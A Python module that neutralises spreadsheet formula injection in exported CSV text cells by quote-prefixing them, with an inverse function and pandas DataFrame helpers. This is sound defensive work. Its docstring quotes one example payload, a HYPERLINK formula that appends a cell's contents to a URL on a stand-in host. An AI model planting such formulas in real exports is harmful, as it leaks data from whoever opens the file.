"""Text cells of exported CSV files, safe to open in a spreadsheet (OWASP "CSV injection").

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula, so a label or file name such as ``=HYPERLINK("http://x/?"&A1)`` would run when a
researcher opens our export. :func:`neutralise` prefixes such text (and text that already begins
with a quote, so the step can be undone) with a single quote, which spreadsheets show as text;
:func:`restore` undoes it where our own code reads the file back. Numbers are never touched: only
``str`` values are.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text that begins like a formula (or with ``'``)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The text :func:`neutralise` was given (its inverse on ``str``; other values unchanged)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _text_cells(frame, fn):
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):  # pandas 3 has a str dtype
            out[column] = out[column].map(fn)
    return out


def neutralise_frame(frame):
    """A copy of a pandas DataFrame with :func:`neutralise` applied to every text cell."""
    return _text_cells(frame, neutralise)


def restore_frame(frame):
    """A copy of a pandas DataFrame with :func:`restore` applied to every text cell."""
    return _text_cells(frame, restore)
